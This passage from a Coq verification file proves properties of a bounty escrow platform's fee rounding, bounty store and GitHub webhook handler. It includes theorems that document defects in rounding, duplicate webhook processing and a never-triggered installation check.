          {| Escrow.sender := 303; Escrow.value := 0; Escrow.timestamp := 200 |}
          1035250 Escrow.USDC 0 funded with
  | Escrow.Return (_, s, _) => s
  | Escrow.Revert _ => funded
  end.

(** The relayer completes bounty 1 in favour of alice (address 401). *)
Definition completion : Escrow.Result (Escrow.State * list Escrow.Event) :=
  Escrow.completeBounty
    {| Escrow.sender := 777; Escrow.value := 0; Escrow.timestamp := 300 |}
    1 401 escrowWithBounty.

Definition completedEscrow : Escrow.State :=
  match completion with
  | Escrow.Return (s, _) => s
  | Escrow.Revert _ => escrowWithBounty
  end.

Definition completionEvents : list Escrow.Event :=
  match completion with
  | Escrow.Return (_, events) => events
  | Escrow.Revert _ => []
  end.

End Scenarios.

(* ===================================================================== *)
(** * Sample transactions of the escrow *)
(* ===================================================================== *)

Module EscrowScenarios.
Import Escrow EscrowAdmin.

Definition msg (from value at_ : Z) : Msg :=
  {| sender := from; value := value; timestamp := at_ |}.

(** Account 1 initializes the contract deployed at 900 (relayer 777, fee
    collector 888); carol (303) deposits 102.5 XDC without expiry as
    bounty 1 and 50 XDC expiring at 1000 as bounty 2; the relayer completes
    bounty 1 for alice (401); carol takes bounty 2 back after its
    expiry. *)
Definition lifecycle : list (Msg * Call) :=
  [ (msg 1 0 100, CallInitialize 500 501 777 888);
    (msg 303 102500000000000000000 200,
     CallCreateBounty 102500000000000000000 XDC 0);
    (msg 303 50000000000000000000 210,
     CallCreateBounty 50000000000000000000 XDC 1000);
    (msg 777 0 300, CallCompleteBounty 1 401);
    (msg 303 0 1001, CallRefundBounty 2) ].

(** The contract after the two deposits. *)
Definition twoDeposits : State := run (firstn 3 lifecycle) Scenarios.deployedEscrow.

(** The owner raises the fees to the cap of 10%, then hands the relayer
    role to 778. *)
Definition adminChanges : list (Msg * Call) :=
  [ (msg 1 0 400, CallSetFeeRates 600 400);
    (msg 1 0 410, CallSetRelayer 778) ].

End EscrowScenarios.

Module ListScenarios.
Import ListRoute.

(** A funded bounty listed with its creator. *)
Definition carolsRow : Listed :=
  {| bounty := Scenarios.fundedBounty 1 "acme" "api" 7 101;
     createdByGithubUsername := "carol" |}.

(** 150 listed bounties of carol. *)
Definition manyRows : list Listed := repeat carolsRow 150.

(** [?creator=carol&limit=-1] *)
Definition negativeLimit : Query :=
  {| q_status := None; q_currency := None; q_repo := None;
     q_creator := Some "carol"%string;
     q_limit := Some "-1"%string; q_offset := None |}.

End ListScenarios.

Module WebhookScenarios.

(** A signed delivery of a closed issue whose payload has no
    [installation] object. *)
Definition issueClosedNoInstallation : Webhook.Request :=
  {| Webhook.x_github_event := "issues";
     Webhook.x_hub_signature_256 := Some "sha256=0f3a"%string;
     Webhook.x_github_delivery := "9c1d7a52-cc79-11e3-9b2f-0a1b2c3d4e5f";
     Webhook.signature_verifies := true;
     Webhook.payload :=
       {| Webhook.action := Some "closed"%string;
          Webhook.installation_id := None;
          Webhook.repository_id := Some 1296269;
          Webhook.comment_body := None;
          Webhook.pull_request_merged := false |} |}.

End WebhookScenarios.
(* ===================================================================== *)
(** * Properties of the fee breakdown in decimal arithmetic *)
(* ===================================================================== *)

Module DecimalFeesProps.
Import DecimalFees.
Local Open Scope Q_scope.

Lemma Qfloor_add_Z (x : Q) (k : Z) : Qfloor (x + inject_Z k) = (Qfloor x + k)%Z.
Proof.
  destruct x as [n d]. unfold Qplus, inject_Z, Qfloor. simpl.
  rewrite Z.mul_1_r, Pos.mul_1_r.
  apply Z.div_add. discriminate.
Qed.

Lemma round_half_up_Z (k : Z) : round_half_up (inject_Z k) = k.
Proof.
  unfold round_half_up.
  assert (H : inject_Z k + (1 # 2) == (1 # 2) + inject_Z k) by ring.
  rewrite (Qfloor_comp _ _ H), Qfloor_add_Z. reflexivity.
Qed.

Lemma round_half_up_add_Z (x : Q) (k : Z) :
  round_half_up (x + inject_Z k) = (round_half_up x + k)%Z.
Proof.
  unfold round_half_up.
  assert (H : x + inject_Z k + (1 # 2) == x + (1 # 2) + inject_Z k) by ring.
  rewrite (Qfloor_comp _ _ H). apply Qfloor_add_Z.
Qed.

Lemma round_half_up_comp (x y : Q) : x == y -> round_half_up x = round_half_up y.
Proof.
  intros H. unfold round_half_up. apply Qfloor_comp. rewrite H. reflexivity.
Qed.

#[export] Instance round8_proper : Proper (Qeq ==> Qeq) round8.
Proof.
  intros x y H. unfold round8.
  rewrite (round_half_up_comp (x * inject_Z 100000000) (y * inject_Z 100000000)).
  - reflexivity.
  - rewrite H. reflexivity.
Qed.

(** Every result of [round8] is a multiple of 10^-8. *)
Lemma round8_fixed8 (q : Q) : fixed8 (round8 q).
Proof. eexists. unfold round8. reflexivity. Qed.

(** [round8] leaves multiples of 10^-8 alone ... *)
Lemma round8_of_fixed (n : Z) :
  round8 (inject_Z n / inject_Z 100000000) == inject_Z n / inject_Z 100000000.
Proof.
  unfold round8.
  rewrite (round_half_up_comp _ (inject_Z n)).
  - rewrite round_half_up_Z. reflexivity.
  - field.
Qed.

Lemma round8_id (q : Q) : fixed8 q -> round8 q == q.
Proof. intros [n Hn]. rewrite Hn. apply round8_of_fixed. Qed.

(** ... and commutes with adding one. *)
Lemma round8_add_fixed (q : Q) (k : Z) :
  round8 (q + inject_Z k / inject_Z 100000000)
  == round8 q + inject_Z k / inject_Z 100000000.
Proof.
  unfold round8.
  rewrite (round_half_up_comp _ (q * inject_Z 100000000 + inject_Z k)) by field.
  rewrite round_half_up_add_Z, inject_Z_plus. field.
Qed.

Lemma round8_add_round (q r : Q) :
  round8 (q + round8 r) == round8 q + round8 r.
Proof. unfold round8 at 2 4. apply round8_add_fixed. Qed.

Lemma round8_sub_round (q r : Q) :
  round8 (q - round8 r) == round8 q - round8 r.
Proof.
  unfold round8 at 2 4.
  set (m := round_half_up (r * inject_Z 100000000)).
  assert (H : q - inject_Z m / inject_Z 100000000
              == q + inject_Z (- m) / inject_Z 100000000)
    by (rewrite inject_Z_opp; field).
  rewrite H, round8_add_fixed, inject_Z_opp. field.
Qed.

Lemma round8_idem (q : Q) : round8 (round8 q) == round8 q.
Proof. apply round8_id, round8_fixed8. Qed.

Lemma round8_round_plus_round (q r : Q) :
  round8 (round8 q + round8 r) == round8 q + round8 r.
Proof. rewrite round8_add_round, round8_idem. reflexivity. Qed.

(** The examples of the fee model: 100 and 0.5. *)
Example decimal_fees_100 :
  let f := fees 100 in
  clientFeeAmount f == 25 # 10 /\ contributorFeeAmount f == 25 # 10 /\
  totalPlatformFee f == 5 /\ totalPaidByClient f == 1025 # 10 /\
  contributorPayout f == 975 # 10.
Proof. repeat split; vm_compute; reflexivity. Qed.

Example decimal_fees_half :
  let f := fees (1 # 2) in
  clientFeeAmount f == 125 # 10000 /\ contributorFeeAmount f == 125 # 10000 /\
  totalPlatformFee f == 25 # 1000.
Proof. repeat split; vm_compute; reflexivity. Qed.

(** The sums of the breakdown are exact on the rounded base. *)
Lemma breakdown_sums (base : Q) :
  let f := fees base in
  totalPlatformFee f == clientFeeAmount f + contributorFeeAmount f /\
  totalPaidByClient f == baseBountyAmount f + clientFeeAmount f /\
  contributorPayout f == baseBountyAmount f - contributorFeeAmount f.
Proof.
  cbn zeta. unfold fees; cbn [clientFeeAmount contributorFeeAmount
    totalPlatformFee totalPaidByClient contributorPayout baseBountyAmount].
  repeat split.
  - apply round8_round_plus_round.
  - apply round8_add_round.
  - apply round8_sub_round.
Qed.

Lemma breakdown_base (base : Q) :
  fixed8 base -> baseBountyAmount (fees base) == base.
Proof. intros H. cbn. apply round8_id, H. Qed.

(** On an amount that is not negative, [ROUND(x, 8)] of the migrations
    is [round8]. *)
Lemma ROUND8_is_round8 (x : Q) : 0 <= x -> FeeMigration.ROUND8 x == round8 x.
Proof.
  intros Hx. unfold FeeMigration.ROUND8, round8, round_half_up. cbn zeta.
  assert (H : Qle_bool 0 (x * inject_Z 100000000) = true).
  { apply Qle_bool_iff. apply Qmult_le_0_compat; [exact Hx|]. discriminate. }
  rewrite H. reflexivity.
Qed.

End DecimalFeesProps.

(* ===================================================================== *)
(** * Properties of the fee calculator *)
(* ===================================================================== *)

Module FeeCalculatorProps.
Import PrimFloat FeeCalculator.

Set Warnings "-inexact-float".

Example Math_round_halves :
  Math_round 2.5 = 3%float /\ Math_round (-2.5) = (-2)%float /\
  Math_round 0.49999999999999994 = 0%float /\
  Math_round (-0.5) = (-0)%float /\
  Math_round 250000000.0025 = 250000000%float /\
  Math_round 4503599627370495.5 = 4503599627370496%float.
Proof. vm_compute. repeat split. Qed.

Example parseFloat_decimals :
  parseFloat (11 # 10) = 1.1%float /\ parseFloat 100 = 100%float /\
  parseFloat (123456789012345678 # 100000000) = 1234567890.12345678%float /\
  parseFloat (- (7 # 1000)) = (-0.007)%float.
Proof. vm_compute. repeat split. Qed.

(** The unit tests of the fee model. *)
Example fees_100 :
  calculateBountyFees 100
  = {| baseBountyAmount := 100; clientFeeAmount := 2.5;
       contributorFeeAmount := 2.5; totalPlatformFee := 5;
       totalPaidByClient := 102.5; contributorPayout := 97.5 |}.
Proof. vm_compute. reflexivity. Qed.

Example fees_half :
  let f := calculateBountyFees 0.5 in
  clientFeeAmount f = 0.0125%float /\ contributorFeeAmount f = 0.0125%float /\
  totalPlatformFee f = 0.025%float.
Proof. vm_compute. repeat split. Qed.

(** The two fees are one and the same rounded product. *)
Lemma fees_equal (base : float) :
  let f := calculateBountyFees base in
  clientFeeAmount f = contributorFeeAmount f /\
  clientFeeAmount f = roundTo8 (base * 0.025)%float /\
  totalPlatformFee f = roundTo8 (clientFeeAmount f + contributorFeeAmount f)%float /\
  totalPaidByClient f = roundTo8 (base + clientFeeAmount f)%float /\
  contributorPayout f = roundTo8 (base - contributorFeeAmount f)%float.
Proof. repeat split. Qed.

(** The differences of the breakdown are not exact on doubles: for a
    base of 1 the total paid less the client fee is not 1 before it is
    rounded. *)
Example differences_inexact :
  let f := calculateBountyFees 1 in
  (totalPaidByClient f - clientFeeAmount f)%float = 0.99999999999999989%float /\
  roundTo8 (totalPaidByClient f - clientFeeAmount f)%float = 1%float.
Proof. vm_compute. repeat split. Qed.



(** C6, the defect.  A bounty of 1.000255: 2.5% of it is 0.025006375,
    which rounded to eight decimal places is 0.02500638, as [ROUND] of the
    CHECK constraints and the decimal breakdown have it.  On doubles the
    product base * 0.025 * 100000000 is 2500637.4999999995, below the
    tie, so [calculateBountyFees] returns 0.02500637 for both fees, and
    with them a total fee of 0.05001274 instead of 0.05001276, a total
    paid of 1.02526137 instead of 1.02526138 and a contributor payout of
    0.97524863 instead of 0.97524862. *)
Theorem calculateBountyFees_misses_rounded_fee :
  let base := (1000255 # 1000000)%Q in
  let f := calculateBountyFees (parseFloat base) in
  (FeeMigration.ROUND8 (base * (25 # 1000)) == 2500638 # 100000000)%Q /\
  (DecimalFees.clientFeeAmount (DecimalFees.fees base) == 2500638 # 100000000)%Q /\
  (parseFloat base * 0.025 * 100000000)%float = 2500637.4999999995%float /\
  clientFeeAmount f = parseFloat (2500637 # 100000000) /\
  contributorFeeAmount f = parseFloat (2500637 # 100000000) /\
  (clientFeeAmount f =? parseFloat (2500638 # 100000000))%float = false /\
  baseBountyAmount f = parseFloat base /\
  totalPlatformFee f = parseFloat (5001274 # 100000000) /\
  totalPaidByClient f = parseFloat (102526137 # 100000000) /\
  contributorPayout f = parseFloat (97524863 # 100000000) /\
  (DecimalFees.totalPaidByClient (DecimalFees.fees base) == 102526138 # 100000000)%Q /\
  (DecimalFees.contributorPayout (DecimalFees.fees base) == 97524862 # 100000000)%Q.
Proof. vm_compute. repeat split. Qed.




End FeeCalculatorProps.

(* ===================================================================== *)
(** * Properties of the bounty store *)
(* ===================================================================== *)

Module BountyStoreProps.
Import BountyStore.

Lemma status_set_claim u g p url now b : status (set_claim u g p url now b) = claimed.
Proof. reflexivity. Qed.


(** A successful claim touches the claimed row only. *)
Lemma claim_other_rows now bountyId userId gh pr url db k :
  k <> bountyId ->
  communityBounties
    (snd (claimCommunityBountyAtomic now bountyId userId gh pr url db)) !! k
  = communityBounties db !! k.
Proof.
  intros Hk. unfold claimCommunityBountyAtomic.
  destruct (communityBounties db !! bountyId) as [b|] eqn:Hb; [|reflexivity].
  case_bool_decide; [|reflexivity].
  cbn. apply lookup_insert_ne. congruence.
Qed.


(** ** Webhook deliveries *)

Lemma lookup_with_deliveries m db d :
  webhookDeliveries (with_deliveries m db) !! d = m !! d.
Proof. reflexivity. Qed.

Lemma recordWebhookDelivery_known io d db :
  is_Some (webhookDeliveries db !! d) ->
  forall d' e' a' r' i',
    is_Some (webhookDeliveries
               (snd (recordWebhookDelivery io d' e' a' r' i' db)) !! d).
Proof.
  intros Hd d' e' a' r' i'. unfold recordWebhookDelivery.
  destruct io; [|exact Hd].
  destruct (webhookDeliveries db !! d') eqn:Hd'; [exact Hd|].
  cbn [snd]. rewrite lookup_with_deliveries.
  destruct (decide (d' = d)) as [->|Hne].
  - rewrite lookup_insert_eq. eauto.
  - rewrite lookup_insert_ne by exact Hne. exact Hd.
Qed.

Lemma alter_known (f : WebhookDelivery -> WebhookDelivery)
    (m : gmap string WebhookDelivery) d d' :
  is_Some (m !! d) -> is_Some (alter f d' m !! d).
Proof.
  intros [x Hx]. destruct (decide (d' = d)) as [->|Hne].
  - rewrite lookup_alter_eq, Hx. cbn. eauto.
  - rewrite lookup_alter_ne by exact Hne. eauto.
Qed.

(** No operation of the store removes a delivery id. *)
Lemma delivery_step_known db db' d :
  Webhook.delivery_step db db' ->
  is_Some (webhookDeliveries db !! d) -> is_Some (webhookDeliveries db' !! d).
Proof.
  intros Hstep Hd. destruct Hstep.
  - apply (recordWebhookDelivery_known io d db Hd).
  - unfold markWebhookDeliveryCompleted. destruct io; [|exact Hd].
    rewrite lookup_with_deliveries. apply alter_known, Hd.
  - unfold markWebhookDeliveryFailed. destruct io; [|exact Hd].
    rewrite lookup_with_deliveries. apply alter_known, Hd.
  - exact Hd.
  - exact Hd.
Qed.

Lemma delivery_steps_known db db' d :
  Webhook.delivery_steps db db' ->
  is_Some (webhookDeliveries db !! d) -> is_Some (webhookDeliveries db' !! d).
Proof.
  induction 1 as [|db1 db2 db3 Hstep _ IH]; [tauto|].
  intros Hd. apply IH. eapply delivery_step_known; eassumption.
Qed.

(** While the database answers, a known id is refused and nothing is
    written. *)
Lemma recordWebhookDelivery_duplicate d e a r i db :
  is_Some (webhookDeliveries db !! d) ->
  recordWebhookDelivery DbUp d e a r i db = (false, db).
Proof. intros [x Hx]. unfold recordWebhookDelivery. rewrite Hx. reflexivity. Qed.

Lemma recordWebhookDelivery_first d e a r i db :
  webhookDeliveries db !! d = None ->
  fst (recordWebhookDelivery DbUp d e a r i db) = true /\
  is_Some (webhookDeliveries (snd (recordWebhookDelivery DbUp d e a r i db)) !! d).
Proof.
  intros Hd. unfold recordWebhookDelivery. rewrite Hd. cbn [fst snd].
  split; [reflexivity|]. rewrite lookup_with_deliveries, lookup_insert_eq. eauto.
Qed.

(** ** Payouts *)

(** Once a payout is recorded for a settlement key, recording another one
    for that key fails and inserts nothing: with "already recorded" while
    the database answers, with the driver's error otherwise. *)
Lemma recordPayout_duplicate (p p' : NewPayout) (db : Store) :
  payoutKey p' = payoutKey p ->
  payouts db !! payoutKey p = None ->
  let db1 := snd (recordPayout DbUp p db) in
  fst (recordPayout DbUp p db) = inr p /\
  recordPayout DbUp p' db1 = (inl PayoutAlreadyRecorded, db1) /\
  forall io, exists err, recordPayout io p' db1 = (inl err, db1).
Proof.
  intros Hkey Hnone. cbn zeta.
  assert (Hfirst : recordPayout DbUp p db
                   = (inr p, with_payouts (<[payoutKey p := p]> (payouts db)) db)).
  { unfold recordPayout. rewrite Hnone. reflexivity. }
  rewrite Hfirst. cbn [fst snd].
  assert (Hl : payouts (with_payouts (<[payoutKey p := p]> (payouts db)) db)
               !! payoutKey p' = Some p).
  { rewrite Hkey. cbn. apply lookup_insert_eq. }
  repeat split.
  - unfold recordPayout. rewrite Hl. reflexivity.
  - intros [|m]; unfold recordPayout.
    + rewrite Hl. eauto.
    + eauto.
Qed.

End BountyStoreProps.

(* ===================================================================== *)
(** * Properties of the webhook handler *)
(* ===================================================================== *)

Module WebhookProps.
Import BountyStore Webhook BountyStoreProps Scenarios.

Lemma pretty_N_go_length (x : N) (s : string) :
  (String.length s <= String.length (pretty_N_go x s))%nat.
Proof.
  revert s. induction (N.lt_wf_0 x) as [x _ IH]. intros s.
  destruct (decide (x = 0%N)) as [->|Hx].
  - rewrite pretty_N_go_0. lia.
  - rewrite pretty_N_go_step by lia.
    etransitivity; [|apply IH; apply N.div_lt; lia].
    cbn. lia.
Qed.

Lemma pretty_positive_nonempty (p : positive) : pretty (Zpos p) <> "".
Proof.
  unfold pretty, pretty_Z, pretty, pretty_positive, pretty, pretty_N.
  destruct (decide (N.pos p = 0%N)) as [H|_]; [discriminate H|].
  rewrite pretty_N_go_step by lia.
  intros Heq.
  pose proof (pretty_N_go_length (N.pos p `div` 10)
                (String (pretty_N_char (N.pos p `mod` 10)) "")) as Hlen.
  rewrite Heq in Hlen. cbn in Hlen. lia.
Qed.

(** [String(x)] is never the empty string, so the handler's
    "Missing installation ID" answer is never given. *)
Lemma String_of_nonempty (n : option Z) : String.eqb (Js.String_of n) "" = false.
Proof.
  apply String.eqb_neq. destruct n as [[|p|p]|]; cbn; try discriminate.
  - apply pretty_positive_nonempty.
Qed.

Section Handler.
Variable Command : Type.
Variable parseBountyCommand : string -> option Command.

(** A signed request whose delivery id is already in the table is
    answered with 200 and nothing else happens. *)
Lemma handler_duplicate now req db :
  Js.falsy_string (x_hub_signature_256 req) = false ->
  signature_verifies req = true ->
  is_Some (webhookDeliveries db !! x_github_delivery req) ->
  handleGitHubAppWebhook Command parseBountyCommand DbUp now req db
  = ({| statusCode := 200; message := "Duplicate delivery ignored" |}, db, []).
Proof.
  intros Hsig Hver Hknown. unfold handleGitHubAppWebhook.
  rewrite Hsig, Hver. cbn [negb].
  rewrite String_of_nonempty.
  rewrite recordWebhookDelivery_duplicate by exact Hknown.
  reflexivity.
Qed.

(** C2 (as amended).  While the database answers, the first call of
    [recordWebhookDelivery] with a delivery id returns true, and every
    later call with that id, whatever the store did in between, returns
    false and writes nothing; a delivery with a known id whose signature
    verifies is answered with HTTP 200 by the handler, which schedules no
    work and leaves the store as it is. *)
Theorem webhook_delivery_processed_once
    (d e : string) (a r : option string) (i : string) (db : Store)
    (Hfresh : webhookDeliveries db !! d = None) :
  let first := recordWebhookDelivery DbUp d e a r i db in
  fst first = true /\
  forall db', delivery_steps (snd first) db' ->
    (forall e' a' r' i',
       recordWebhookDelivery DbUp d e' a' r' i' db' = (false, db')) /\
    (forall now req,
       x_github_delivery req = d ->
       Js.falsy_string (x_hub_signature_256 req) = false ->
       signature_verifies req = true ->
       handleGitHubAppWebhook Command parseBountyCommand DbUp now req db'
       = ({| statusCode := 200; message := "Duplicate delivery ignored" |},
          db', [])).
Proof.
  cbn zeta. destruct (recordWebhookDelivery_first d e a r i db Hfresh) as [Ht Hk].
  split; [exact Ht|].
  intros db' Hsteps.
  pose proof (delivery_steps_known _ _ d Hsteps Hk) as Hk'.
  split.
  - intros. apply recordWebhookDelivery_duplicate, Hk'.
  - intros now req <- Hsig Hver. apply handler_duplicate; assumption.
Qed.

End Handler.

Lemma webhook_delivery_processed_once_witness :
  webhookDeliveries fundedStore !! x_github_delivery issueClosed = None /\
  handleGitHubAppWebhook unit noCommands DbUp 2000 issueClosed afterFirstDelivery
  = ({| statusCode := 200; message := "Duplicate delivery ignored" |},
     afterFirstDelivery, []).
Proof.
  split; [reflexivity|].
  refine (proj2 (proj2 (webhook_delivery_processed_once unit noCommands
            (x_github_delivery issueClosed) "issues" (Some "closed"%string)
            (Some "1296269"%string) "55" fundedStore eq_refl)
            afterFirstDelivery _) 2000 issueClosed eq_refl eq_refl eq_refl).
  apply steps_refl.
Defined.

(** C2, counterexample.  The second delivery of the same id arrives while
    the insert throws: [recordWebhookDelivery] answers true again, and the
    handler starts the issue-closed processing a second time instead of
    answering "duplicate". *)
Lemma webhook_duplicate_processed_when_insert_throws :
  let io := DbThrows "Connection terminated unexpectedly" in
  is_Some (webhookDeliveries afterFirstDelivery !! x_github_delivery issueClosed) /\
  fst (recordWebhookDelivery io (x_github_delivery issueClosed) "issues"
         (Some "closed"%string) (Some "1296269"%string) "55" afterFirstDelivery)
  = true /\
  handleGitHubAppWebhook unit noCommands io 2000 issueClosed afterFirstDelivery
  = ({| statusCode := 202;
        message := "Webhook received and Issue Closed processing initiated." |},
     afterFirstDelivery, [Scheduled HandleIssueClosed "55"]).
Proof.
  cbn zeta. split; [|split].
  - vm_compute. eauto.
  - reflexivity.
  - vm_compute. reflexivity.
Qed.

End WebhookProps.

(* ===================================================================== *)
(** * What the webhook handler writes *)
(* ===================================================================== *)

Module WebhookFrameProps.
Import BountyStore Webhook.

(** Two stores that differ at most in the row of delivery [d]. *)
Lemma record_frame io d e a r i db :
  let db' := snd (recordWebhookDelivery io d e a r i db) in
  communityBounties db' = communityBounties db /\
  payouts db' = payouts db /\ users db' = users db /\
  forall d', d' <> d -> webhookDeliveries db' !! d' = webhookDeliveries db !! d'.
Proof.
  cbn zeta. unfold recordWebhookDelivery.
  destruct io; [|repeat split].
  destruct (webhookDeliveries db !! d); [repeat split|].
  cbn. repeat split. intros d' Hd'. apply lookup_insert_ne. congruence.
Qed.

Lemma completed_frame io now d db :
  let db' := markWebhookDeliveryCompleted io now d db in
  communityBounties db' = communityBounties db /\
  payouts db' = payouts db /\ users db' = users db /\
  forall d', d' <> d -> webhookDeliveries db' !! d' = webhookDeliveries db !! d'.
Proof.
  cbn zeta. unfold markWebhookDeliveryCompleted.
  destruct io; [|repeat split].
  cbn. repeat split. intros d' Hd'. apply lookup_alter_ne. congruence.
Qed.

Lemma record_then_completed_frame io now d e a r i db :
  let db' := markWebhookDeliveryCompleted io now d
               (snd (recordWebhookDelivery io d e a r i db)) in
  communityBounties db' = communityBounties db /\
  payouts db' = payouts db /\ users db' = users db /\
  forall d', d' <> d -> webhookDeliveries db' !! d' = webhookDeliveries db !! d'.
Proof.
  cbn zeta.
  destruct (completed_frame io now d (snd (recordWebhookDelivery io d e a r i db)))
    as (Hb & Hp & Hu & Hd).
  destruct (record_frame io d e a r i db) as (Hb' & Hp' & Hu' & Hd').
  repeat split; try congruence.
  intros d' Hne. rewrite Hd, Hd' by exact Hne. reflexivity.
Qed.

(** The row of a first delivery, as inserted and as marked completed. *)
Lemma record_row d e a r i db :
  webhookDeliveries db !! d = None ->
  recordWebhookDelivery DbUp d e a r i db
  = (true,
     with_deliveries
       (<[d := {| eventType := e; eventAction := a; repositoryId := r;
                  installationId := Some i; deliveryStatus := processing;
                  processedAt := None; errorMessage := None |}]>
          (webhookDeliveries db)) db).
Proof. intros H. unfold recordWebhookDelivery. rewrite H. reflexivity. Qed.

Lemma surjective_pairing3 {A B C : Type} (x : A * B * C) :
  x = (fst (fst x), snd (fst x), snd x).
Proof. destruct x as [[a b] c]. reflexivity. Qed.

Section Handler.
Variable Command : Type.
Variable parseBountyCommand : string -> option Command.

(** What a run of the handler yields, branch by branch: the response,
    whether the delivery was marked completed, and the effects. *)
Lemma handler_cases io now req db :
  let p := payload req in
  let d := x_github_delivery req in
  let inst := Js.String_of (installation_id p) in
  let recorded := recordWebhookDelivery io d (x_github_event req) (action_or_null p)
                    (repository_id_or_null p) inst db in
  (exists m, handleGitHubAppWebhook Command parseBountyCommand io now req db
             = ({| statusCode := 401; message := m |}, db, []) /\
             (Js.falsy_string (x_hub_signature_256 req) = true \/
              signature_verifies req = false)) \/
  (Js.falsy_string (x_hub_signature_256 req) = false /\
   signature_verifies req = true /\
   ((fst recorded = false /\
     handleGitHubAppWebhook Command parseBountyCommand io now req db
     = ({| statusCode := 200; message := "Duplicate delivery ignored" |},
        snd recorded, [])) \/
    (fst recorded = true /\
     ((exists m task,
         handleGitHubAppWebhook Command parseBountyCommand io now req db
         = ({| statusCode := 202; message := m |}, snd recorded,
            [Scheduled task inst])) \/
      (exists m effects,
         handleGitHubAppWebhook Command parseBountyCommand io now req db
         = ({| statusCode := 200; message := m |},
            markWebhookDeliveryCompleted io now d (snd recorded), effects) /\
         forall task i, ~ In (Scheduled task i) effects))))).
Proof.
  cbn zeta. unfold handleGitHubAppWebhook.
  destruct (Js.falsy_string (x_hub_signature_256 req)) eqn:Hsig;
    [left; eexists; split; [reflexivity|auto]|].
  destruct (signature_verifies req) eqn:Hver; cbn [negb];
    [|left; eexists; split; [reflexivity|auto]].
  right. split; [reflexivity|split; [reflexivity|]].
  rewrite WebhookProps.String_of_nonempty.
  destruct (recordWebhookDelivery io (x_github_delivery req) (x_github_event req)
              (action_or_null (payload req)) (repository_id_or_null (payload req))
              (Js.String_of (installation_id (payload req))) db)
    as [isFirst db1].
  cbn [fst snd]. destruct isFirst; cbn [negb]; [right|left; split; reflexivity].
  split; [reflexivity|].
  repeat match goal with
         | |- context [if ?c then _ else _] => destruct c
         | |- context [match parseBountyCommand ?b with _ => _ end] =>
             destruct (parseBountyCommand b)
         end;
    first
      [ left; do 2 eexists; reflexivity
      | right; do 2 eexists; split; [reflexivity|];
        intros task i [Hin|[]]; discriminate Hin
      | right; do 2 eexists; split; [reflexivity|]; intros task i [] ].
Qed.

(** ** Statements *)

(** X18.  Whatever the request, the handler writes nothing but the row of
    [webhook_deliveries] that carries the request's delivery id: bounties,
    payouts and users are as before and so is every other delivery.  It
    answers 401, 200 or 202; on 401 the store is untouched and nothing is
    scheduled; and it answers 202 exactly when it hands one task, and
    only one, to [setImmediate]. *)
Theorem webhook_writes_only_its_delivery_row
    (io : DbIO) (now : Z) (req : Request) (db db' : Store)
    (resp : Response) (effects : list Effect)
    (Hrun : handleGitHubAppWebhook Command parseBountyCommand io now req db
            = (resp, db', effects)) :
  communityBounties db' = communityBounties db /\
  payouts db' = payouts db /\
  users db' = users db /\
  (forall d, d <> x_github_delivery req ->
             webhookDeliveries db' !! d = webhookDeliveries db !! d) /\
  (statusCode resp = 401 \/ statusCode resp = 200 \/ statusCode resp = 202) /\
  (statusCode resp = 401 -> db' = db /\ effects = []) /\
  (statusCode resp = 202 <->
   exists task,
     effects = [Scheduled task (Js.String_of (installation_id (payload req)))]).
Proof.
  pose proof (record_frame io (x_github_delivery req) (x_github_event req)
                (action_or_null (payload req)) (repository_id_or_null (payload req))
                (Js.String_of (installation_id (payload req))) db) as Hrec.
  pose proof (record_then_completed_frame io now (x_github_delivery req)
                (x_github_event req)
                (action_or_null (payload req)) (repository_id_or_null (payload req))
                (Js.String_of (installation_id (payload req))) db) as Hdone.
  cbn zeta in Hrec, Hdone.
  destruct Hrec as (Hb & Hp & Hu & Hd). destruct Hdone as (Hb' & Hp' & Hu' & Hd').
  destruct (handler_cases io now req db)
    as [(m & Heq & _)
       |(_ & _ & [(_ & Heq)|(_ & [(m & task & Heq)|(m & eff & Heq & Hnone)])])];
    rewrite Heq in Hrun; injection Hrun as <- <- <-; cbn [statusCode].
  - repeat split; auto; try discriminate.
    intros [task Htask]. discriminate Htask.
  - repeat split; auto; try discriminate.
    intros [task Htask]. discriminate Htask.
  - repeat split; auto; try discriminate.
    intros _. exists task. reflexivity.
  - repeat split; auto; try discriminate.
    intros [task ->]. destruct (Hnone task _ (or_introl eq_refl)).
Qed.

(** X19.  The handler's answer 400 'Missing installation ID' is never given:
    a signed delivery without [installation] in its payload is processed
    like any other, recorded with the text 'undefined' as its
    installation id, and that text is what the scheduled task receives. *)
Theorem webhook_accepts_missing_installation
    (now : Z) (req : Request) (db : Store)
    (Hsig : Js.falsy_string (x_hub_signature_256 req) = false)
    (Hver : signature_verifies req = true)
    (Hmissing : installation_id (payload req) = None)
    (Hfresh : webhookDeliveries db !! x_github_delivery req = None) :
  let result := handleGitHubAppWebhook Command parseBountyCommand DbUp now req db in
  statusCode (fst (fst result)) <> 400 /\
  (exists row,
     webhookDeliveries (snd (fst result)) !! x_github_delivery req = Some row /\
     installationId row = Some "undefined"%string) /\
  forall task i, In (Scheduled task i) (snd result) -> i = "undefined"%string.
Proof.
  cbn zeta.
  pose proof (handler_cases DbUp now req db) as Hcases. cbn zeta in Hcases.
  rewrite Hmissing in Hcases. cbn [Js.String_of] in Hcases.
  rewrite record_row in Hcases by exact Hfresh. cbn [fst snd] in Hcases.
  destruct Hcases
    as [(m & _ & [Hs|Hv])
       |(_ & _ & [(Hdup & _)|(_ & [(m & task & Heq)|(m & eff & Heq & Hnone)])])];
    try congruence; rewrite Heq; cbn [fst snd statusCode].
  - split; [discriminate|]. split.
    + eexists. cbn. rewrite lookup_insert_eq. split; reflexivity.
    + intros task' i [Hin|[]]. congruence.
  - split; [discriminate|]. split.
    + eexists. cbn. rewrite lookup_alter_eq, lookup_insert_eq. cbn.
      split; reflexivity.
    + intros task' i Hin. destruct (Hnone _ _ Hin).
Qed.

(** X20.  A signed first delivery, with the database answering, leaves its row
    in one of two states: when the answer is 202 the row is still
    [processing], with no processing time, until the background task
    ends; when the answer is 200 the row is already [completed] and
    carries the time of the request. *)
Theorem webhook_first_delivery_row_status
    (now : Z) (req : Request) (db : Store)
    (Hsig : Js.falsy_string (x_hub_signature_256 req) = false)
    (Hver : signature_verifies req = true)
    (Hfresh : webhookDeliveries db !! x_github_delivery req = None) :
  let result := handleGitHubAppWebhook Command parseBountyCommand DbUp now req db in
  exists row,
    webhookDeliveries (snd (fst result)) !! x_github_delivery req = Some row /\
    eventType row = x_github_event req /\
    errorMessage row = None /\
    ((statusCode (fst (fst result)) = 202 /\
      deliveryStatus row = processing /\ processedAt row = None) \/
     (statusCode (fst (fst result)) = 200 /\
      deliveryStatus row = delivery_completed /\ processedAt row = Some now)).
Proof.
  cbn zeta.
